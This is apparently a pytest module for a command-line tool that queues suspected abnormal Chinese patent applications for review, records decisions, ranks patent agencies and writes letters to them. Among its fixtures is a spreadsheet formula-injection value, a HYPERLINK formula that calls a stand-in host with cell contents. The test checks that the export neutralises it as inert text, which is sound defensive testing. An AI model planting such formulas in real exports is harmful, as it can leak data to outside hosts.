"""`hvp abnormal …` and `hvp agencies …` (cli/abnormal.py, cli/agencies.py; docs/abnormal.md and docs/agencies.md,
"Command line"): the review queue in a table, json, csv and xlsx (one sheet per rule, evidence as columns, no live
formula), a decision recorded and its history, refusals without a traceback and nothing written, the agency ranking,
one agency and its letter; --region (default the plan's, as the pages; `all`; a bad code refused) and application
numbers as the pages take them.

The district is world.py.  The rules' findings are the hand-made flags below (the contract's shape), so what the
command shows is worked by hand and does not move with the rules' thresholds; the reviews are the room's own
(supervision/reviews.py, real rows in a copy of the warehouse).  The agency figures are hand-made rows of
agency_table's shape for the same reason.  The queue's order (pending first, more rules first, then app_no):
A9 (two rules), then A10 ("2018…") before A8 ("2020…").
"""

from __future__ import annotations

import json
import shutil
import sys
import types
from datetime import date, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

import world
from hvpatent.supervision import Flag

EVIL = '=HYPERLINK("http://x.example/"&A1,"详情")'
GROUP = {"members": [world.A8, world.A9], "similarity": 0.91, "threshold": 0.85}
FLAGS = [
    Flag(world.A8, "near_duplicate", GROUP, ("与 1 件申请内容明显相同", "near-identical to 1 application")),
    Flag(world.A9, "near_duplicate", GROUP, ("与 1 件申请内容明显相同", "near-identical to 1 application")),
    Flag(world.A9, "bulk_filing", {"count": 40, "peer_median": 3, "window": {"from": "2021-01-01", "to": "2021-01-31"}},
         ("30 天内申请 40 件", "40 filings in 30 days")),
    Flag(world.A10, "transfer_after_grant",
         {"days_after_grant": 25, "transfers": [{"date": "2024-08-01", "to": EVIL}], "assignee": EVIL},
         ("授权后 25 天转让", "transferred 25 days after grant")),
]
ORDER = [world.A9, world.A10, world.A8]

JIAJIA, SMALL = "北京集佳知识产权代理有限公司", "重庆某某专利代理事务所"
AGENCIES = [
    {"key": "11227", "code": "11227", "name": JIAJIA, "variants": [JIAJIA, f"{JIAJIA} 11227"],
     "applications": 40, "by_type": {"invention": 30, "utility_model": 10, "design": 0}, "invention_share": 0.75,
     "grant_rate": 0.5, "rejection_rate": 0.125, "deemed_withdrawal_rate": 0.05, "avg_claims": 8.5, "flagged": 2,
     "flagged_share": 0.05, "confirmed": 0, "clients": 2, "trend": [{"year": 2023, "applications": 15},
                                                                     {"year": 2024, "applications": 25}],
     "rank": 1, "watch": False, "reasons": []},
    {"key": f"n:{SMALL}", "code": None, "name": SMALL, "variants": [SMALL],
     "applications": 12, "by_type": {"invention": 2, "utility_model": 10, "design": 0}, "invention_share": 1 / 6,
     "grant_rate": 0.25, "rejection_rate": 0.5, "deemed_withdrawal_rate": 0.25, "avg_claims": 1.5, "flagged": 6,
     "flagged_share": 0.5, "confirmed": 1, "clients": 3, "trend": [{"year": 2024, "applications": 12}], "rank": 2,
     "watch": True,
     "reasons": [("疑似非正常申请占比 50.0%", "flagged share 50.0%"), ("驳回率 50.0%", "rejection rate 50.0%")]},
]
DETAIL = {**AGENCIES[1],
          "clients": [{"applicant": world.E2, "applicant_name": world.E2, "applications": 8, "flagged": 5},
                      {"applicant": world.E1, "applicant_name": world.E1, "applications": 4, "flagged": 1}],
          "flagged_applications": [
              {"app_no": world.A8, "title": "测试专利8", "rules": ["near_duplicate"], "applicant_name": world.E2},
              {"app_no": world.A7, "title": "测试专利7", "rules": ["bulk_filing"], "applicant_name": world.E1}]}
# Under min_applications and nothing concluded: no rank, no rates.
TINY = "重庆小小专利代理事务所"
UNRANKED = {"key": f"n:{TINY}", "code": None, "name": TINY, "variants": [TINY], "applications": 3,
            "by_type": {"invention": 3, "utility_model": 0, "design": 0}, "invention_share": 1.0, "grant_rate": None,
            "rejection_rate": None, "deemed_withdrawal_rate": None, "avg_claims": None, "flagged": 0,
            "flagged_share": 0.0, "confirmed": 0, "clients": [], "trend": [{"year": 2024, "applications": 3}],
            "rank": None, "watch": False, "reasons": [], "flagged_applications": []}
DETAILS = {DETAIL["key"]: DETAIL, UNRANKED["key"]: UNRANKED}
PLAN_REGION, BUREAU = "500118", "永川区知识产权局"   # the shipped plan's region (world.py's) and its bureau


def hvp(*args: str, lang: str = "en"):
    from typer.testing import CliRunner

    from hvpatent.cli.main import app

    return CliRunner().invoke(app, ["--lang", lang, *args])


def refused(result, words: str) -> bool:
    """Exit 2 with the words in the output and no traceback."""
    return (result.exit_code == 2 and words in result.output and "Traceback" not in result.output
            and (result.exception is None or isinstance(result.exception, SystemExit)))


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """The world's warehouse (closed, as `hvp` opens it), made once."""
    from hvpatent.warehouse.store import Warehouse

    db = tmp_path_factory.mktemp("supervision-cli") / "w.duckdb"
    with Warehouse(db) as wh:
        world.build(wh)
    return db


@pytest.fixture()
def fresh(built, tmp_path) -> str:
    """A copy of the warehouse for a test that records reviews."""
    db = tmp_path / "w.duckdb"
    shutil.copy(built, db)
    return str(db)


@pytest.fixture(autouse=True)
def room(monkeypatch, request):
    """The rules' findings and the agency figures, hand-made (see the module's note); calls are recorded.  A test
    named test_real_… runs the room as it is instead."""
    import hvpatent.supervision as door
    import hvpatent.supervision.flags as flags

    calls: dict[str, list] = {"flags": [], "table": [], "detail": [], "letter": []}
    if request.node.name.startswith("test_real_"):
        return calls

    def fake_flags(con, as_of, *, region=None, config=None, rules=None):
        calls["flags"].append((as_of, region))
        return list(FLAGS)

    def fake_table(con, as_of, *, region=None, config=None, flags=None):
        calls["table"].append((as_of, region))
        return [dict(r) for r in AGENCIES]

    def fake_detail(con, key, as_of, *, region=None, config=None, flags=None):
        calls["detail"].append((key, as_of, region))
        return dict(DETAILS[key]) if key in DETAILS else None

    def fake_letter(detail, *, to, as_of, lang="zh", issuer=None, client=None):
        calls["letter"].append((detail, to, as_of, lang, client, issuer))
        return b"PK-docx-" + to.encode()

    monkeypatch.setattr(flags, "flag_applications", fake_flags)
    monkeypatch.setattr(door, "flag_applications", fake_flags)
    monkeypatch.setattr(door, "agency_table", fake_table)
    monkeypatch.setattr(door, "agency_detail", fake_detail)
    letters = types.ModuleType("hvpatent.reports.agency_letters")
    letters.agency_letter = fake_letter
    monkeypatch.setitem(sys.modules, "hvpatent.reports.agency_letters", letters)
    return calls


def queue_json(db: str | Path, *args: str) -> dict:
    result = hvp("abnormal", "--db", str(db), "--format", "json", *args)
    assert result.exit_code == 0, result.output
    return json.loads(result.output)


# -- the queue -------------------------------------------------------------------------------------------------------

def test_queue_table_in_both_languages(built, room):
    result = hvp("abnormal", "--db", str(built), "--as-of", "2024-06-30")
    assert result.exit_code == 0, result.output
    out = result.output
    assert "Suspected abnormal applications 2024-06-30: 3" in out
    assert [out.index(a) for a in ORDER] == sorted(out.index(a) for a in ORDER)
    assert "bulk filing far above its own history and its peers" in out and "to review" in out
    assert room["flags"] == [(date(2024, 6, 30), PLAN_REGION)]   # no --region: the plan's, as the page
    result = hvp("abnormal", "queue", "--db", str(built), "--as-of", "2024-06-30", lang="zh")
    assert result.exit_code == 0, result.output
    assert "疑似非正常申请: 3" in result.output and "授权后短期内向多方转让" in result.output
    assert "待复核" in result.output and world.E2 in result.output


def test_queue_filters_one_rule(built):
    data = queue_json(built, "--rule", "bulk_filing")
    assert [r["app_no"] for r in data["rows"]] == [world.A9]
    assert data["rows"][0]["rules"] == ["near_duplicate", "bulk_filing"]


def test_queue_json_carries_the_evidence(built):
    data = queue_json(built, "--as-of", "2024-06-30", "--region", "500118")
    assert [r["app_no"] for r in data["rows"]] == ORDER
    assert data["as_of"] == "2024-06-30" and data["region"] == "500118" and len(data["settings_digest"]) == 16
    a9 = data["rows"][0]
    assert a9["status"] == "pending" and a9["applicant_name"] == world.E2 and a9["title"] == "测试专利9"
    bulk = a9["flags"][1]
    assert bulk["rule"] == "bulk_filing" and bulk["evidence"]["count"] == 40
    assert bulk["summary"] == ["30 天内申请 40 件", "40 filings in 30 days"]
    assert bulk["rule_words"][1] == "bulk filing far above its own history and its peers"


@pytest.mark.parametrize(("option", "value", "words"), [
    ("--rule", "bulk", "unknown rule 'bulk' (--rule); one of: near_duplicate, name_variants, bulk_filing"),
    ("--status", "done", "unknown status 'done' (--status); one of: pending, cleared, confirmed"),
])
def test_queue_unknown_rule_or_status(built, room, option, value, words):
    result = hvp("abnormal", "--db", str(built), option, value)
    assert refused(result, words), result.output
    assert room["flags"] == []   # refused before any work


def test_queue_xlsx_one_sheet_per_rule_no_live_formula(built, tmp_path):
    out = tmp_path / "abnormal.xlsx"
    result = hvp("abnormal", "--db", str(built), "--out", str(out))   # the format from the suffix
    assert result.exit_code == 0, result.output
    assert f"written: {out} (3 rows)" in result.output
    wb = load_workbook(out)
    assert wb.sheetnames[1:] == ["near_duplicate", "bulk_filing", "transfer_after_grant"]
    queue = [[c.value for c in row] for row in wb.worksheets[0].iter_rows()]
    assert queue[0][0] == "application number" and [r[0] for r in queue[1:]] == ORDER
    bulk = {h.value: c.value for h, c in zip(wb["bulk_filing"][1], wb["bulk_filing"][2], strict=True)}
    assert bulk["application number"] == world.A9 and bulk["count"] == 40 and bulk["peer_median"] == 3
    assert bulk["window.from"] == "2021-01-01" and bulk["finding"] == "40 filings in 30 days"
    transfer = {h.value: c for h, c in zip(wb["transfer_after_grant"][1], wb["transfer_after_grant"][2], strict=True)}
    assert transfer["assignee"].value == "'" + EVIL and transfer["assignee"].data_type == "s"
    assert json.loads(transfer["transfers"].value.lstrip("'")) == [{"date": "2024-08-01", "to": EVIL}]
    dupes = wb["near_duplicate"]
    assert [c.value for c in dupes["A"]][1:] == [world.A9, world.A8]   # the queue's order
    assert [c.value for c in dupes[1]][3:] == ["members", "similarity", "threshold"]
    assert dupes["D2"].value == f"{world.A8}; {world.A9}" and dupes["E2"].value == 0.91


def test_queue_csv_in_chinese(built):
    result = hvp("abnormal", "--db", str(built), "--format", "csv", lang="zh")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0].startswith("申请号,申请日,名称,第一申请人,代理机构,疑似情形,复核状态")
    assert lines[1].startswith(world.A9) and "内容明显相同的多件申请; 短期内申请量异常激增" in lines[1]
    assert len(lines) == 4


# -- decisions -------------------------------------------------------------------------------------------------------

def test_review_then_queue_and_history(fresh, room):
    result = hvp("abnormal", "review", world.A9, world.A10, "--status", "confirmed", "--note", "与同组申请内容相同",
                 "--by", "王审核", "--db", fresh)
    assert result.exit_code == 0, result.output
    assert "recorded 2: confirmed abnormal (by 王审核)" in result.output
    assert f"{world.A9}: near-identical applications; bulk filing" in result.output   # the rules' order
    data = queue_json(fresh, "--status", "confirmed")
    assert [(r["app_no"], r["decided_by"], r["note"]) for r in data["rows"]] == [
        (world.A9, "王审核", "与同组申请内容相同"), (world.A10, "王审核", "与同组申请内容相同")]   # more rules first
    assert [r["app_no"] for r in queue_json(fresh, "--status", "pending")["rows"]] == [world.A8]
    result = hvp("abnormal", "review", world.A9, "--status", "cleared", "--db", fresh)   # clearing needs no note
    assert result.exit_code == 0, result.output
    history = hvp("abnormal", "history", world.A9, "--db", fresh, "--format", "json")
    rows = json.loads(history.output)
    assert [r["status"] for r in rows] == ["confirmed", "cleared"]
    assert rows[0]["rules"] == ["bulk_filing", "near_duplicate"]
    csv_rows = hvp("abnormal", "history", world.A9, "--db", fresh, "--format", "csv").output
    assert "near-identical applications; bulk filing" in csv_rows   # shown in the rules' order, as the queue
    assert {e["rule"] for e in rows[0]["evidence"]} == {"near_duplicate", "bulk_filing"}
    table = hvp("abnormal", "history", world.A9, "--db", fresh, lang="zh")
    assert "的复核记录: 2" in table.output and "已排除" in table.output and "王审核" in table.output


def test_review_day_before_day_and_after(fresh):
    """The queue is a worklist: whatever day it is computed for, it shows each application's latest decision."""
    today = date.today()
    assert hvp("abnormal", "review", world.A8, "--status", "cleared", "--db", fresh).exit_code == 0
    expected = {today - timedelta(days=1): "cleared", today: "cleared", today + timedelta(days=1): "cleared"}
    for day, status in expected.items():
        rows = queue_json(fresh, "--as-of", day.isoformat())["rows"]
        assert next(r["status"] for r in rows if r["app_no"] == world.A8) == status, day


@pytest.mark.parametrize(("args", "lang", "words"), [
    (("--status", "confirmed"), "en", "a confirmation needs a reason (note)"),
    (("--status", "confirmed", "--note", "  "), "zh", "确认为非正常申请须写明理由"),
    (("--status", "approved", "--note", "x"), "en", "one of: cleared, confirmed"),
])
def test_review_refused_nothing_written(fresh, args, lang, words):
    result = hvp("abnormal", "review", world.A9, *args, "--db", fresh, lang=lang)
    assert refused(result, words), result.output
    assert " / " not in result.output   # one language
    assert json.loads(hvp("abnormal", "history", world.A9, "--db", fresh, "--format", "json").output) == []


def test_review_unknown_application_writes_none(fresh):
    missing = world.no(99, 2024)   # a well-formed number the warehouse does not hold
    result = hvp("abnormal", "review", world.A9, missing, "--status", "cleared", "--db", fresh)
    assert refused(result, f"no application {missing} in the warehouse")
    assert json.loads(hvp("abnormal", "history", world.A9, "--db", fresh, "--format", "json").output) == []


def test_review_and_history_take_numbers_as_the_pages_do(fresh):
    """CN prefix, no dot, no check digit: the number the warehouse keys (A9 = 202110000009.2, its check digit worked
    by hand: 2·2+0·3+2·4+1·5+1·6+0+…+9·5 = 68, 68 mod 11 = 2)."""
    assert world.A9 == "202110000009.2"
    result = hvp("abnormal", "review", "CN2021100000092", "ZL 202110000009", "--status", "cleared", "--db", fresh)
    assert result.exit_code == 0, result.output
    assert "recorded 1: cleared" in result.output and f"{world.A9}: " in result.output
    rows = json.loads(hvp("abnormal", "history", "CN202110000009.2", "--db", fresh, "--format", "json").output)
    assert [r["status"] for r in rows] == ["cleared"]
    table = hvp("abnormal", "history", "2021100000092", "--db", fresh)
    assert f"Reviews of {world.A9}: 1" in table.output


@pytest.mark.parametrize(("number", "words"), [
    ("2021100000", "bad application number '2021100000'"),                      # 10 digits
    ("202110000009.5", "bad application number '202110000009.5': check digit 5 wrong, expected 2"),
    ("A9", "bad application number 'A9'"),
])
def test_review_and_history_refuse_a_number_they_cannot_read(fresh, number, words):
    result = hvp("abnormal", "review", world.A8, number, "--status", "cleared", "--db", fresh)
    assert refused(result, words), result.output
    assert refused(hvp("abnormal", "history", number, "--db", fresh), words)
    zh = hvp("abnormal", "history", number, "--db", fresh, lang="zh")
    assert refused(zh, f"无法识别的申请号 {number!r}")
    assert json.loads(hvp("abnormal", "history", world.A8, "--db", fresh, "--format", "json").output) == []


def test_missing_warehouse_is_refused_not_created(tmp_path):
    db = tmp_path / "typo.duckdb"
    for args in (("abnormal",), ("abnormal", "review", world.A9, "--status", "cleared"), ("agencies",)):
        result = hvp(*args, "--db", str(db))
        assert refused(result, "not found"), args
    assert not db.exists()


def test_bad_settings_file_names_file_and_key(built, tmp_path):
    bad = tmp_path / "supervision.yaml"
    bad.write_text("rules:\n  bulk_filing:\n    enabled: maybe\n", encoding="utf-8")
    result = hvp("abnormal", "--db", str(built), "--config", str(bad))
    assert refused(result, "bad settings file") and str(bad) in result.output and "rules.bulk_filing.enabled" in \
        result.output
    assert refused(hvp("agencies", "--db", str(built), "--config", str(tmp_path / "none.yaml")), "not found")


# -- agencies --------------------------------------------------------------------------------------------------------

def test_agencies_ranking_and_watch(built, room):
    result = hvp("agencies", "--db", str(built), "--as-of", "2024-12-31", "--region", "500118")
    assert result.exit_code == 0, result.output
    assert "Patent agencies 2024-12-31: 2" in result.output and "北京集佳知识产权代理有限公司" in result.output
    assert "flagged share 50.0%; rejection rate 50.0%" in result.output and "16.7%" in result.output
    assert room["table"] == [(date(2024, 12, 31), "500118")]
    result = hvp("agencies", "list", "--watch", "--db", str(built), lang="zh")
    assert "重点关注的代理机构" in result.output and ": 1" in result.output
    assert "北京集佳" not in result.output and "疑似非正常申请占比 50.0%" in result.output


def test_agencies_json_and_xlsx(built, tmp_path):
    data = json.loads(hvp("agencies", "--db", str(built), "--watch", "--format", "json").output)
    assert [r["key"] for r in data["rows"]] == [f"n:{SMALL}"]
    assert data["rows"][0]["reasons"][1] == ["驳回率 50.0%", "rejection rate 50.0%"]
    out = tmp_path / "agencies.xlsx"
    assert hvp("agencies", "--db", str(built), "--format", "xlsx", "--out", str(out)).exit_code == 0
    wb = load_workbook(out)
    rows = [[c.value for c in row] for row in wb.worksheets[0].iter_rows()]
    heads = rows[0]
    first = dict(zip(heads, rows[1], strict=True))
    assert first["rank"] == 1 and first["applications"] == 40 and first["inventions"] == 30
    assert first["spellings"] == "北京集佳知识产权代理有限公司; 北京集佳知识产权代理有限公司 11227"
    trend = [[c.value for c in row] for row in wb.worksheets[1].iter_rows()]
    assert trend[1:] == [["11227", JIAJIA, 2023, 15], ["11227", JIAJIA, 2024, 25], [f"n:{SMALL}", SMALL, 2024, 12]]


def test_agency_show_unranked_and_without_rates(built):
    """An agency too small to rank, with nothing concluded: the words and "—", as its page, never a blank."""
    result = hvp("agencies", "show", f"n:{TINY}", "--db", str(built))
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    for line in ("  rank: too few applications to rank", "  grant rate: —", "  rejection rate: —",
                 "  deemed withdrawn: —", "  average claims: —", "  watch: no", "  reasons: —", "  code: —",
                 "  invention share: 100.0%", "  flagged: 0", "  flagged share: 0.0%"):
        assert line in lines, line
    zh = hvp("agencies", "show", f"n:{TINY}", "--db", str(built), lang="zh").output.splitlines()
    assert "  排名: 申请量不足，不排名" in zh and "  授权率: —" in zh and "  重点关注: 否" in zh


def test_agency_show_and_unknown_key(built):
    result = hvp("agencies", "show", f"n:{SMALL}", "--db", str(built))
    assert result.exit_code == 0, result.output
    assert "rejection rate: 50.0%" in result.output and "applications per year: 2024: 12" in result.output
    assert "clients: 2\n" in result.output   # the figure: the list's count
    assert "Clients: 2" in result.output and world.E1 in result.output
    assert "Flagged applications: 2" in result.output and "near-identical applications" in result.output
    assert refused(hvp("agencies", "show", "99999", "--db", str(built)), "unknown agency '99999'")


def test_agency_letter_to_one_client(built, tmp_path, room):
    out = tmp_path / "函.docx"
    result = hvp("agencies", "letter", f"n:{SMALL}", "--to", "clients", "--client", world.E2,
                 "--out", str(out), "--as-of", "2024-12-31", "--db", str(built), lang="zh")
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == b"PK-docx-clients"
    detail, to, as_of, lang, client, issuer = room["letter"][0]
    assert (to, as_of, lang, client) == ("clients", date(2024, 12, 31), "zh", world.E2)
    assert issuer == BUREAU and room["detail"] == [(f"n:{SMALL}", date(2024, 12, 31), PLAN_REGION)]
    assert [c["applicant_name"] for c in detail["clients"]] == [world.E2]
    assert [f["app_no"] for f in detail["flagged_applications"]] == [world.A8]


@pytest.mark.parametrize(("args", "name", "words"), [
    (("--to", "agency"), "x.pdf", "--out must be a .docx file"),
    (("--to", "clients", "--client", "某人"), "x.docx", "'某人' is not a client"),
    (("--to", "agency", "--client", world.E2), "x.docx", "--client goes with --to clients only"),
])
def test_agency_letter_refused(built, tmp_path, room, args, name, words):
    out = tmp_path / name
    result = hvp("agencies", "letter", f"n:{SMALL}", *args, "--out", str(out), "--db", str(built))
    assert refused(result, words), result.output
    assert room["letter"] == [] and not out.exists()


def test_agency_letter_to_a_client_with_nothing_flagged_is_refused(built, tmp_path, room, monkeypatch):
    """E1 is a client of the agency whose one flagged application (A7) was cleared: the letter would be about nothing
    and name no addressee, so it is refused (exit 2), no file written; E2's letter is still written."""
    monkeypatch.setitem(DETAILS, DETAIL["key"], {**DETAIL, "flagged_applications": DETAIL["flagged_applications"][:1]})
    out = tmp_path / "e1.docx"
    for lang, words in (("en", f"{world.E1} has no flagged applications through {SMALL}"),
                        ("zh", f"{world.E1} 经 {SMALL} 代理的申请中没有疑似非正常申请")):
        result = hvp("agencies", "letter", f"n:{SMALL}", "--to", "clients", "--client", world.E1, "--out", str(out),
                     "--db", str(built), lang=lang)
        assert refused(result, words), result.output
    assert room["letter"] == [] and not out.exists()
    result = hvp("agencies", "letter", f"n:{SMALL}", "--to", "clients", "--client", world.E2, "--out", str(out),
                 "--db", str(built))
    assert result.exit_code == 0 and out.exists() and len(room["letter"]) == 1


# -- --region ------------------------------------------------------------------------------------------------------

def test_region_defaults_to_the_plans_all_is_every_region(built, tmp_path, room):
    """No --region: the plan's region, as the pages (their figures agree); `all`: every region (None); a town's
    12-digit code is taken, and its letter is signed by its district's bureau."""
    assert queue_json(built)["region"] == PLAN_REGION
    assert queue_json(built, "--region", "all")["region"] == "all"
    data = json.loads(hvp("agencies", "--db", str(built), "--format", "json", "--region", "ALL").output)
    assert data["region"] == "all"
    assert hvp("agencies", "--db", str(built)).exit_code == 0
    assert [r for _, r in room["flags"]] == [PLAN_REGION, None]
    assert [r for _, r in room["table"]] == [None, PLAN_REGION]
    assert hvp("agencies", "show", f"n:{SMALL}", "--db", str(built)).exit_code == 0
    assert hvp("agencies", "show", f"n:{SMALL}", "--db", str(built), "--region", "all").exit_code == 0
    town = "500118111000"
    out = tmp_path / "town.docx"
    result = hvp("agencies", "letter", f"n:{SMALL}", "--to", "agency", "--region", town, "--out", str(out),
                 "--db", str(built))
    assert result.exit_code == 0, result.output
    assert [r for _, _, r in room["detail"]] == [PLAN_REGION, None, town]
    assert room["letter"][0][-1] == BUREAU   # 永川区, never 来苏镇知识产权局
    result = hvp("agencies", "letter", f"n:{SMALL}", "--to", "agency", "--region", "110000", "--out", str(out),
                 "--db", str(built))
    assert result.exit_code == 0 and room["letter"][1][-1] == "北京市知识产权局"
    result = hvp("agencies", "letter", f"n:{SMALL}", "--to", "agency", "--region", "all", "--out", str(out),
                 "--db", str(built))
    assert result.exit_code == 0 and room["letter"][2][-1] == BUREAU   # every region: the plan's bureau


@pytest.mark.parametrize("region", ["abc", "../x", "５００１１８", "50011", "5001181", "500118 1", ""])
def test_region_not_a_code_is_refused(built, tmp_path, room, region):
    out = tmp_path / "x.docx"
    for args in (("abnormal",), ("abnormal", "review", world.A9, "--status", "cleared"), ("agencies",),
                 ("agencies", "show", f"n:{SMALL}"),
                 ("agencies", "letter", f"n:{SMALL}", "--to", "agency", "--out", str(out))):
        result = hvp(*args, "--region", region, "--db", str(built))
        assert refused(result, f"--region must be a 6- or 12-digit code or all: {region!r}"), (args, result.output)
    assert room == {"flags": [], "table": [], "detail": [], "letter": []} and not out.exists()
    zh = hvp("agencies", "--region", region, "--db", str(built), lang="zh")
    assert refused(zh, "区划代码应为 6 或 12 位数字或 all")


@pytest.mark.parametrize("region", ["999999", "500118999999"])
def test_region_of_no_division_is_refused(built, tmp_path, room, region):
    """A code of the right shape that names no division exits 2 naming it, as the pages answer 422; 500118 (永川区)
    and its town 500118111000 (来苏镇) are taken."""
    out = tmp_path / "x.docx"
    for args in (("abnormal",), ("abnormal", "review", world.A9, "--status", "cleared"), ("agencies",),
                 ("agencies", "show", f"n:{SMALL}"),
                 ("agencies", "letter", f"n:{SMALL}", "--to", "agency", "--out", str(out))):
        result = hvp(*args, "--region", region, "--db", str(built))
        assert refused(result, f"--region: no division has the code {region}"), (args, result.output)
    assert room == {"flags": [], "table": [], "detail": [], "letter": []} and not out.exists()
    assert refused(hvp("agencies", "--region", region, "--db", str(built), lang="zh"),
                   f"没有这个区划代码的行政区划（--region）：{region}")
    for good in ("500118", "500118111000"):
        assert hvp("agencies", "--region", good, "--db", str(built)).exit_code == 0
    assert [r for _, r in room["table"]] == ["500118", "500118111000"]


# -- hvp report and the supervision settings ---------------------------------------------------------------------------

@pytest.fixture()
def user_settings(tmp_path, monkeypatch):
    """Writes the user's supervision.yaml in a config folder of the test's own (XDG_CONFIG_HOME)."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    folder = tmp_path / "xdg" / "hvpatent"
    folder.mkdir(parents=True)

    def write(text: str) -> Path:
        (folder / "supervision.yaml").write_text(text, encoding="utf-8")
        return folder / "supervision.yaml"

    return write


def test_report_with_a_bad_user_settings_file_exits_2_naming_it(built, tmp_path, user_settings, monkeypatch):
    """A user supervision.yaml the bulletin cannot use: exit 2 with the file and the key, no traceback, no file."""
    bad = user_settings("rules:\n  bulk_filing:\n    window_days: 0\n")
    out = tmp_path / "通报.docx"
    monkeypatch.chdir(tmp_path)
    for lang, words in (("en", "bad settings file"), ("zh", "监管设置文件有误")):
        result = hvp("report", "--as-of", "2024-06-30", "--out", str(out), "--db", str(built), lang=lang)
        assert refused(result, words), result.output
        assert str(bad) in result.output and "rules.bulk_filing.window_days" in result.output
    assert not out.exists() and list(tmp_path.glob("*.docx")) == []


def test_report_exclusion_follows_the_option_else_the_settings(built, tmp_path, user_settings, monkeypatch):
    """--exclude-abnormal/--include-abnormal as `hvp plan progress` takes it; without either, the settings'
    plan.exclude_confirmed (the shipped false; a user file's true)."""
    import hvpatent.cli.report as report

    asked: list = []
    monkeypatch.setattr(report, "write_report", lambda *args: asked.append(args[-1]))
    common = ("report", "--as-of", "2024-06-30", "--out", str(tmp_path / "r.docx"), "--db", str(built))
    for flag, expected in (((), False), (("--exclude-abnormal",), True), (("--include-abnormal",), False)):
        assert hvp(*common, *flag).exit_code == 0
        assert asked[-1] is expected, flag
    user_settings("plan:\n  exclude_confirmed: true\n")
    assert hvp(*common).exit_code == 0 and asked[-1] is True
    assert hvp(*common, "--include-abnormal").exit_code == 0 and asked[-1] is False


# -- the room as it is -----------------------------------------------------------------------------------------------

NEAR = ("一种用于食品加工的自动化搅拌装置，包括机架、电机、搅拌桶和控制器，所述电机通过减速器驱动搅拌轴转动，"
        "搅拌轴上设有多组螺旋叶片，控制器根据物料粘度调节转速，从而提高搅拌均匀性并降低能耗。")
AGENCY = "重庆某某专利代理事务所"


@pytest.fixture(scope="module")
def planted(built, tmp_path_factory) -> tuple[Path, Path]:
    """The world with one agency (code 50212) for A7 (E1's) and A8, A9, A10 (E2's), and A8 and A9 given one abstract,
    so the real near_duplicate rule groups them (146 days apart); settings with groups of two flagged."""
    import duckdb

    folder = tmp_path_factory.mktemp("supervision-cli-agency")
    db, settings = folder / "w.duckdb", folder / "supervision.yaml"
    shutil.copy(built, db)
    with duckdb.connect(str(db)) as con:
        con.execute("UPDATE applications SET agency = ? WHERE app_no IN (?, ?, ?, ?)",
                    [f"{AGENCY} 50212", world.A7, world.A8, world.A9, world.A10])
        con.execute("UPDATE applications SET abstract = ? WHERE app_no IN (?, ?)", [NEAR, world.A8, world.A9])
    settings.write_text("rules:\n  near_duplicate:\n    min_cluster: 2\n", encoding="utf-8")
    return db, settings


def docx_text(path: Path) -> str:
    """Every paragraph and table cell of a docx, one per line."""
    from docx import Document

    doc = Document(str(path))
    cells = [c.text for t in doc.tables for row in t.rows for c in row.cells]
    return "\n".join([p.text for p in doc.paragraphs] + cells)


def test_real_agency_show_and_letters(planted, tmp_path):
    """The real rules, agencies and letters: 4 applications through 50212 in the plan's region (A7 E1's utility model;
    A8, A9, A10 E2's inventions), A8 and A9 flagged near-identical, 2 clients; an unranked agency (4 < 20).  The client
    letter, a real docx, is signed by the bureau and names the agency and E2's flagged applications, not E1."""
    db, settings = planted
    common = ("--as-of", "2024-12-31", "--config", str(settings), "--db", str(db))
    result = hvp("agencies", "show", "50212", *common)
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert f"{AGENCY} · 50212" in lines
    for line in ("  applications: 4", "  invention share: 75.0%", "  flagged: 2", "  flagged share: 50.0%",
                 "  cleared: 0", "  clients: 2", "  rank: too few applications to rank", "  average claims: —"):
        assert line in lines, line
    assert "Flagged applications: 2" in result.output and world.A8 in result.output and world.A9 in result.output
    out = tmp_path / "致委托人.docx"
    result = hvp("agencies", "letter", "50212", "--to", "clients", "--client", world.E2, "--out", str(out), *common,
                 lang="zh")
    assert result.exit_code == 0, result.output
    text = docx_text(out)
    assert BUREAU in text and AGENCY in text and f"{world.E2}：" in text
    assert world.A8 in text and world.A9 in text and "有2件经本局筛查提示为疑似非正常申请" in text
    assert world.E1 not in text and world.A7 not in text
    out = tmp_path / "agency.docx"
    result = hvp("agencies", "letter", "50212", "--to", "agency", "--out", str(out), *common)
    assert result.exit_code == 0, result.output
    text = docx_text(out)
    assert BUREAU in text and f"To {AGENCY}（50212）:" in text and world.A8 in text
    assert "your agency filed 4 applications for applicants of this region; 2 of them were flagged" in text
    # a cleared application leaves the client's letter (findings B1/A1: the room's; here through the commands)
    assert hvp("abnormal", "review", world.A9, "--status", "cleared", *common).exit_code == 0
    out = tmp_path / "after.docx"
    assert hvp("agencies", "letter", "50212", "--to", "clients", "--client", world.E2, "--out", str(out), *common,
               lang="zh").exit_code == 0
    text = docx_text(out)
    assert world.A8 in text and world.A9 not in text and "有1件经本局筛查提示为疑似非正常申请" in text
    lines = hvp("agencies", "show", "50212", *common).output.splitlines()
    assert "  flagged: 1" in lines and "  cleared: 1" in lines and "  flagged share: 25.0%" in lines


def test_real_room_through_the_commands(fresh):
    """The commands over the real rules, reviews and agencies (no hand-made findings): each answers, and a decision
    shows in the queue whether or not the rules flag the application now."""
    from hvpatent.supervision import RULES

    before = queue_json(fresh, "--as-of", "2024-12-31")
    assert all(set(r["rules"]) <= set(RULES) and r["status"] == "pending" for r in before["rows"])
    result = hvp("abnormal", "review", world.A9, "--status", "cleared", "--as-of", "2024-12-31", "--db", fresh)
    assert result.exit_code == 0, result.output
    after = {r["app_no"]: r for r in queue_json(fresh, "--as-of", date.today().isoformat())["rows"]}
    assert after[world.A9]["status"] == "cleared" and after[world.A9]["title"] == "测试专利9"
    result = hvp("agencies", "--db", fresh, "--as-of", "2024-12-31", "--format", "json")
    assert result.exit_code == 0, result.output
    assert isinstance(json.loads(result.output)["rows"], list)
